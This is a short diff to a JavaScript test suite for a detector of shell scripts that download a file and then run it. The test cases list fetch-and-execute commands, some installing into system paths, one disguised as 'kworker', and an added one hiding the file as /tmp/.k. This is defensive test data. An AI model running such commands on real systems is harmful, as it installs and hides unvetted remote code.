@@ -53,6 +53,8 @@ describe('fetchedThenRun over a reading', () => {
       ['curl -o a http://h/a && install -m 0755 a /usr/local/bin/agent && agent --run', ['curl']],
       ['curl -o a http://h/a && install -t /usr/local/bin a && /usr/local/bin/a', ['curl']],
       ['wget http://h/a && ln -sf /root/a /usr/bin/kworker && kworker', ['wget']],
+      // A redirection is no operand of the move.
+      ['curl -o /tmp/a http://h/a; mv /tmp/a /tmp/.k 2>/dev/null; /tmp/.k', ['curl']],
     ];
     for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
     for (const script of [
